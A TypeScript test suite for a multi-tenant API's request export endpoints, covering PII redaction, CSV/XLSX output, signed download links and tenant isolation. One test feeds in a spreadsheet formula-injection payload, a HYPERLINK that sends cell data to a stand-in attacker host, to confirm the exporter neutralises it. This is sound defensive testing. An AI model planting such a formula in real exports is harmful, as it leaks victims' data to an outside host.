import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REQUEST_EXPORT_COLUMNS } from '../../../src/surfaces/ingestion/views.js';
import type { Clock } from '../../../src/lib/clock.js';
import { startTestApp, type TestApp } from '../../helpers/app.js';
import { dialects } from '../../helpers/db.js';
import { insertExport, insertRequest } from '../../helpers/ingestion-fixtures.js';
import { itIsolatesTenants } from '../../helpers/isolation.js';
import { sleep, waitFor } from '../../helpers/queue.js';

type Tenant = Awaited<ReturnType<TestApp['createTenant']>>;
/** JSON as the API answered it. */
type Body = ReturnType<typeof JSON.parse>;

const BASE = 'https://frontdesk.example.com';

/** Real time, moved forward by `shift` without sleeping (expiry and the route's 10 s wait). */
function shiftableClock(): Clock & { shift: number } {
  const clock = { shift: 0, now: () => new Date(Date.now() + clock.shift) };
  return clock;
}

/** RFC 4180, for reading the export back: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) => {
  let t: TestApp;
  const clock = shiftableClock();

  beforeAll(async () => {
    if (skip) return;
    t = await startTestApp({ dialect, clock, env: { PUBLIC_BASE_URL: BASE } });
    await t.startWorkers();
  });
  afterAll(async () => {
    if (!skip) await t.close();
  });

  const newTenant = () => t.createTenant({ configuration: { rate_limits: { multiplier: 100 } } });
  const db = () => t.deps.database.db;
  const exportOf = async (tenant: Tenant, query: string) => {
    const res = await t.app.inject({
      url: `/v1/tenants/${tenant.id}/requests/export${query}`,
      headers: { 'x-api-key': tenant.apiKey },
    });
    const body: Body = res.json();
    return { status: res.statusCode, body, data: body.data, requestId: String(res.headers['x-request-id']) };
  };
  /** Follows a download_url as a client would: no credentials, only the link. */
  const download = (url: string) => t.app.inject({ url: url.slice(BASE.length) });

  describe.skipIf(skip)('GET /v1/tenants/{tenant_id}/requests/export', () => {
    it('answers spec A’s export data with a signed link that serves every full record as JSON', async () => {
      const tenant = await newTenant();
      const older = await insertRequest(db(), tenant.id, { created_at: '2025-09-12T10:00:00.000Z' });
      const newer = await insertRequest(db(), tenant.id, { created_at: '2025-09-13T10:00:00.000Z' });
      const res = await exportOf(tenant, '?format=json&include_pii=true&include_audio=true');
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body).toMatchObject({ success: true, request_id: res.requestId });
      expect(Object.keys(res.data).sort()).toEqual([
        'download_url',
        'expires_at',
        'export_id',
        'file_size_bytes',
        'record_count',
      ]);
      expect(res.data.export_id).toMatch(/^exp_/);
      expect(res.data.download_url).toMatch(
        new RegExp(`^${BASE}/v1/exports/${res.data.export_id}/download\\?expires=\\d+&signature=[0-9a-f]{64}$`),
      );
      expect(Math.abs(new Date(res.data.expires_at).getTime() - (Date.now() + 86_400_000))).toBeLessThan(60_000);
      expect(res.data.record_count).toBe(2);

      const file = await download(res.data.download_url);
      expect(file.statusCode).toBe(200);
      expect(file.headers['content-type']).toMatch(/^application\/json/);
      expect(file.headers['content-disposition']).toBe(`attachment; filename="${res.data.export_id}.json"`);
      expect(file.rawPayload.length).toBe(res.data.file_size_bytes);
      const details = await Promise.all(
        [older, newer].map(
          async (id) =>
            (
              await t.app.inject({
                url: `/v1/tenants/${tenant.id}/requests/${id}`,
                headers: { 'x-api-key': tenant.apiKey },
              })
            ).json().data,
        ),
      );
      expect(file.json()).toEqual(details);
      // Kept in blob storage, which every process of a fleet reads; nothing is left in the local data dir.
      expect((await t.deps.storage.get(`tenants/${tenant.id}/exports/${res.data.export_id}.json`))?.body.length).toBe(
        res.data.file_size_bytes,
      );
      expect(fs.readdirSync(path.join(t.dataDir, 'exports', tenant.id))).toEqual([]);
    });

    it('redacts names, phone numbers, e-mails and transcripts everywhere and drops recording links by default', async () => {
      const tenant = await newTenant();
      await insertRequest(db(), tenant.id, {
        original_payload: {
          call_id: 'CAL1',
          caller_id: '+15551234567',
          caller_name: 'John Smith',
          recording_url: 'https://callrail.com/r.wav',
          custom_fields: { note: 'reach me at john.smith@example.com or +1 512 555 0199' },
        },
      });
      const res = await exportOf(tenant, '?format=json');
      const [record] = (await download(res.data.download_url)).json();
      expect(record.original_payload).toEqual({
        call_id: 'CAL1',
        caller_id: '[redacted]',
        caller_name: '[redacted]',
        custom_fields: { note: 'reach me at [redacted] or [redacted]' },
      });
      expect(record.call_data).toEqual({ call_id: 'CAL123456789', caller_phone: '[redacted]', duration: 180 });
      expect(record.ai_analysis.transcript).toBe('[redacted]');
      expect(record.ai_analysis.intent).toBe('kitchen_remodel');
      const enriched = record.enriched_data;
      expect(enriched.callrail_details).toMatchObject({
        caller_name: '[redacted]',
        tracking_number: '[redacted]',
        campaign: 'Google Ads - Kitchen Remodel',
      });
      expect(enriched.audio_analysis.transcript).toBe('[redacted]');
      expect(enriched.audio_analysis.speaker_segments[0]).toEqual({
        speaker: 'caller',
        text: '[redacted]',
        start_time: 0,
        end_time: 15.2,
      });
      expect(enriched.ai_analysis.extracted_entities).toMatchObject({
        contact_email: '[redacted]',
        project_type: 'kitchen_remodel',
      });
      const text = JSON.stringify(record);
      for (const secret of [
        'John',
        'Smith',
        '5551234567',
        '555 0199',
        'example.com',
        'gs://',
        '.wav',
        'remodeling my kitchen',
      ])
        expect(text).not.toContain(secret);
    });

    it('redacts the record’s own name, phone, e-mail and address wherever free text repeats them', async () => {
      const tenant = await newTenant();
      await insertRequest(db(), tenant.id, {
        original_payload: { customer_name: 'Jane Doe', customer_email: 'jane@example.com', address: '12 Oak Lane' },
        call_data: { call_id: 'CAL2', caller_phone: '+15551234567' },
        ai_analysis: { intent: 'kitchen_remodel', lead_score: 85 },
        enriched_data: {
          ai_analysis: {
            summary: 'Kitchen remodel lead from Jane Doe; Jane asked for a call back on 5551234567.',
            reasoning: 'Doe lives at 12 Oak Lane and wrote from JANE@EXAMPLE.COM.',
            extracted_entities: { person_name: 'Jane Doe', project_type: 'kitchen_remodel' },
          },
        },
      });
      const [record] = (await download((await exportOf(tenant, '?format=json')).data.download_url)).json();
      const ai = record.enriched_data.ai_analysis;
      expect(ai.summary).toBe('Kitchen remodel lead from [redacted]; [redacted] asked for a call back on [redacted].');
      expect(ai.reasoning).toBe('[redacted] lives at [redacted] and wrote from [redacted].');
      expect(ai.extracted_entities).toEqual({ person_name: '[redacted]', project_type: 'kitchen_remodel' });
      const text = JSON.stringify(record);
      for (const secret of ['Jane', 'Doe', 'Oak Lane', '5551234567', 'example.com']) expect(text).not.toContain(secret);
    });

    it('leaves no recording link of any kind without include_audio', async () => {
      const tenant = await newTenant();
      const link = 'https://api.callrail.com/v3/a/1/calls/CAL3/recording.json';
      await insertRequest(db(), tenant.id, {
        call_data: {
          call_id: 'CAL3',
          recording_url: 'https://frontdesk.example.com/files/rec.wav',
          recording_source_url: link,
          recording_bytes: 1024,
        },
        enriched_data: { notes: { audio_uri: 's3://bucket/rec.wav', fetched_from: link } },
      });
      const [record] = (
        await download((await exportOf(tenant, '?format=json&include_pii=true')).data.download_url)
      ).json();
      expect(record.call_data).toEqual({ call_id: 'CAL3', recording_bytes: 1024 });
      expect(record.enriched_data.notes).toEqual({ fetched_from: '[redacted]' });
      const text = JSON.stringify(record);
      for (const secret of ['rec.wav', 'recording.json']) expect(text).not.toContain(secret);
    });

    it('redacts a 200,000-character field in one pass, and /health answers meanwhile', async () => {
      const tenant = await newTenant();
      // Each was a worst case of the old e-mail pattern: a long run with no @, and a long domain with no top-level label.
      const long = {
        dots: '.'.repeat(200_000) + '-.AA',
        local: 'a'.repeat(200_000),
        domain: `x@${'a.'.repeat(100_000)}1 reach me at jo@example.com`,
      };
      await insertRequest(db(), tenant.id, { original_payload: { call_id: 'CAL8', custom_fields: long } });
      const started = performance.now();
      const [res, health] = await Promise.all([
        exportOf(tenant, '?format=json'),
        t.app.inject({ method: 'GET', url: '/health' }),
      ]);
      expect(health.statusCode).toBe(200);
      const [record] = (await download(res.data.download_url)).json();
      expect(record.original_payload.custom_fields.domain.endsWith('reach me at [redacted]')).toBe(true);
      expect(record.original_payload.custom_fields.local).toHaveLength(200_000);
      // Before the fix this export took 24 s; linear redaction takes milliseconds.
      expect(performance.now() - started).toBeLessThan(5_000);
    });

    it('writes one RFC 4180 CSV row per request with the flattened columns', async () => {
      const tenant = await newTenant();
      const id = await insertRequest(db(), tenant.id, {
        created_at: '2025-09-13T14:30:00.000Z',
        original_payload: { call_id: 'CAL9', caller_name: 'Smith, John "Jack"', caller_id: '+15551234567' },
        enriched_data: {},
        ai_analysis: {
          transcript: 'line one\nline two',
          intent: 'kitchen_remodel',
          lead_score: 85,
          project_details: { type: 'kitchen' },
        },
        crm: [
          { crm_type: 'hubspot', status: 'success', created_at: '2025-09-13T14:31:00.000Z' },
          { crm_type: 'salesforce', status: 'failed', created_at: '2025-09-13T14:32:00.000Z' },
        ],
      });
      const res = await exportOf(tenant, '?format=csv&include_pii=true&include_audio=true');
      const file = await download(res.data.download_url);
      expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(file.body.startsWith(`${REQUEST_EXPORT_COLUMNS.join(',')}\r\n`)).toBe(true);
      expect(file.body).toContain('"Smith, John ""Jack"""');
      const [header, row, ...rest] = parseCsv(file.body);
      expect(rest).toEqual([]);
      expect(header).toEqual([...REQUEST_EXPORT_COLUMNS]);
      expect(Object.fromEntries(header!.map((h, i) => [h, row![i]]))).toEqual({
        request_id: id,
        source_type: 'callrail',
        external_id: 'CAL123456789',
        status: 'completed',
        created_at: '2025-09-13T14:30:00.000Z',
        processed_at: '2025-09-13T14:33:45.000Z',
        processing_time_ms: '225000',
        caller_name: 'Smith, John "Jack"',
        caller_phone: '+15551234567',
        caller_email: '',
        intent: 'kitchen_remodel',
        lead_score: '85',
        project_type: 'kitchen',
        transcript: 'line one\nline two',
        recording_url: 'gs://bucket/audio/CAL123456789.wav',
        crm_status: 'hubspot:success, salesforce:failed',
      });

      const redacted = parseCsv((await download((await exportOf(tenant, '?format=csv')).data.download_url)).body);
      const columns = Object.fromEntries(redacted[0]!.map((h, i) => [h, redacted[1]![i]]));
      expect([columns.caller_name, columns.caller_phone, columns.transcript, columns.recording_url]).toEqual([
        '[redacted]',
        '[redacted]',
        '[redacted]',
        '',
      ]);
    });

    it('writes a cell a spreadsheet would run as a formula as text', async () => {
      const tenant = await newTenant();
      const hyperlink = '=HYPERLINK("https://evil.example/?d="&C2,"Click for invoice")';
      await insertRequest(db(), tenant.id, {
        original_payload: { call_id: 'CAL7', caller_name: hyperlink, caller_id: '=1+2' },
        call_data: { call_id: 'CAL7' },
        enriched_data: {},
      });
      const file = await download((await exportOf(tenant, '?format=csv&include_pii=true')).data.download_url);
      const [header, row] = parseCsv(file.body);
      const columns = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
      expect([columns.caller_name, columns.caller_phone]).toEqual([`'${hyperlink}`, "'=1+2"]);
    });

    it('writes an XLSX workbook with a header row and the same columns', async () => {
      const tenant = await newTenant();
      const id = await insertRequest(db(), tenant.id);
      const res = await exportOf(tenant, '?format=xlsx&include_audio=true');
      const file = await download(res.data.download_url);
      expect(file.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      expect(sheet.rowCount).toBe(2);
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const values = (sheet.getRow(2).values as unknown[]).slice(1);
      expect(header).toEqual([...REQUEST_EXPORT_COLUMNS]);
      const row = Object.fromEntries(header.map((h, i) => [h, values[i]]));
      expect(row).toMatchObject({
        request_id: id,
        status: 'completed',
        processing_time_ms: 225000,
        lead_score: 85,
        caller_name: '[redacted]',
        recording_url: 'gs://bucket/audio/CAL123456789.wav',
        crm_status: 'hubspot:success',
      });
    });

    it('exports only the requests created in the date range', async () => {
      const tenant = await newTenant();
      await insertRequest(db(), tenant.id, { created_at: '2025-09-10T12:00:00.000Z' });
      const inside = await insertRequest(db(), tenant.id, { created_at: '2025-09-11T23:59:00.000Z' });
      await insertRequest(db(), tenant.id, { created_at: '2025-09-12T00:00:00.000Z' });
      const res = await exportOf(tenant, '?format=json&start_date=2025-09-11&end_date=2025-09-11');
      expect(res.data.record_count).toBe(1);
      expect((await download(res.data.download_url)).json().map((r: Body) => r.request_id)).toEqual([inside]);
    });

    it('records who exported what in the audit log', async () => {
      const tenant = await newTenant();
      const res = await exportOf(tenant, '?format=csv&include_pii=true');
      const { entries } = await t.deps.services.audit.list(tenant.id, {
        limit: 10,
        offset: 0,
        action: 'ingestion_requests.exported',
      });
      expect(entries).toHaveLength(1);
      expect(entries[0]).toMatchObject({
        actor: { kind: 'tenant-key' },
        target: { type: 'export', id: res.data.export_id },
        after: { format: 'csv', include_pii: true, include_audio: false },
      });
    });

    it.each([
      ['format', '?format=pdf'],
      ['include_pii', '?include_pii=maybe'],
      ['start_date', '?start_date=yesterday'],
      ['end_date', '?start_date=2025-09-13&end_date=2025-09-01'],
    ])('answers 400 VALIDATION_ERROR naming %s for %s', async (field, query) => {
      const tenant = await newTenant();
      const res = await exportOf(tenant, query);
      expect([res.status, res.body.error.code]).toEqual([400, 'VALIDATION_ERROR']);
      expect(res.body.error.details.field_errors).toEqual(expect.arrayContaining([expect.objectContaining({ field })]));
    });
  });

  describe.skipIf(skip)('GET /v1/exports/{export_id}/download', () => {
    const link = async () => {
      const tenant = await newTenant();
      await insertRequest(db(), tenant.id);
      const res = await exportOf(tenant, '?format=json');
      return new URL(res.data.download_url as string);
    };
    const fetchLink = (url: URL) => t.app.inject({ url: `${url.pathname}${url.search}` });

    it.each([
      [
        'a changed signature',
        (u: URL) =>
          u.searchParams.set(
            'signature',
            `${u.searchParams.get('signature')!.slice(0, -1)}${u.searchParams.get('signature')!.endsWith('0') ? '1' : '0'}`,
          ),
      ],
      [
        'a later expiry',
        (u: URL) => u.searchParams.set('expires', String(Number(u.searchParams.get('expires')) + 3600)),
      ],
      ['no signature', (u: URL) => u.searchParams.delete('signature')],
      ['not hex', (u: URL) => u.searchParams.set('signature', 'z'.repeat(64))],
    ])('answers 403 FORBIDDEN in spec A’s envelope for %s', async (_label, tamper) => {
      const url = await link();
      tamper(url);
      const res = await fetchLink(url);
      expect(res.statusCode).toBe(403);
      expect(res.json()).toMatchObject({
        success: false,
        error: { code: 'FORBIDDEN' },
        request_id: res.headers['x-request-id'],
      });
    });

    it('answers 403 for one export’s signature on another export', async () => {
      const a = await link();
      const b = await link();
      const idOf = (u: URL) => u.pathname.split('/')[3]!;
      const forged = new URL(a);
      forged.pathname = forged.pathname.replace(idOf(a), idOf(b));
      expect((await fetchLink(forged)).statusCode).toBe(403);
      expect((await fetchLink(b)).statusCode).toBe(200);
    });

    it('answers 410 once the link has expired', async () => {
      const url = await link();
      clock.shift = 25 * 3_600_000;
      try {
        const res = await fetchLink(url);
        expect(res.statusCode).toBe(410);
        expect(res.json()).toMatchObject({ success: false, error: { code: 'GONE' } });
      } finally {
        clock.shift = 0;
      }
      expect((await fetchLink(url)).statusCode).toBe(200);
    });
  });

  describe.skipIf(skip)('tenant isolation', () => {
    itIsolatesTenants(
      () => t,
      [
        { method: 'GET', path: '/v1/tenants/:tenant/requests/export?format=csv' },
        {
          method: 'GET',
          path: '/v1/tenants/:tenant/exports/:object',
          createObject: (app, owner) => insertExport(app.deps.database.db, owner.id),
        },
      ],
    );
  });
});

describe.each(dialects)('spec A slow exports on $label', ({ dialect, skip }) => {
  let t: TestApp;
  const clock = shiftableClock();

  // The queue is not started at first, so the export cannot finish while the route waits.
  beforeAll(async () => {
    if (!skip) t = await startTestApp({ dialect, clock, env: { PUBLIC_BASE_URL: BASE } });
  });
  afterAll(async () => {
    if (!skip) await t.close();
  });

  it.skipIf(skip)(
    'answers 202 with a status URL after the wait, and the status route hands out the link once the file exists',
    async () => {
      const tenant = await t.createTenant();
      await insertRequest(t.deps.database.db, tenant.id);
      const headers = { 'x-api-key': tenant.apiKey };
      const pending = t.app.inject({ url: `/v1/tenants/${tenant.id}/requests/export?format=csv`, headers });
      await sleep(300);
      clock.shift += 11_000;
      const res = await pending;
      expect(res.statusCode, res.body).toBe(202);
      const data = res.json().data;
      expect(data).toEqual({
        export_id: expect.stringMatching(/^exp_/),
        status: 'processing',
        status_url: `${BASE}/v1/tenants/${tenant.id}/exports/${data.export_id}`,
        expires_at: expect.any(String),
      });

      const status = async () =>
        (await t.app.inject({ url: new URL(data.status_url as string).pathname, headers })).json().data;
      expect(await status()).toMatchObject({
        export_id: data.export_id,
        status: 'processing',
        format: 'csv',
        download_url: null,
        record_count: null,
      });

      await t.startWorkers();
      const done = await waitFor(async () => {
        const s = await status();
        return s.status === 'completed' ? s : undefined;
      });
      expect(done).toMatchObject({
        record_count: 1,
        file_size_bytes: expect.any(Number),
        completed_at: expect.any(String),
      });
      const file = await t.app.inject({ url: (done.download_url as string).slice(BASE.length) });
      expect(file.statusCode).toBe(200);
      expect(parseCsv(file.body)).toHaveLength(2);
    },
  );

  it.skipIf(skip)('answers 404 for an unknown export', async () => {
    const tenant = await t.createTenant();
    const res = await t.app.inject({
      url: `/v1/tenants/${tenant.id}/exports/exp_missing`,
      headers: { 'x-api-key': tenant.apiKey },
    });
    expect([res.statusCode, res.json().error.code]).toEqual([404, 'NOT_FOUND']);
  });
});
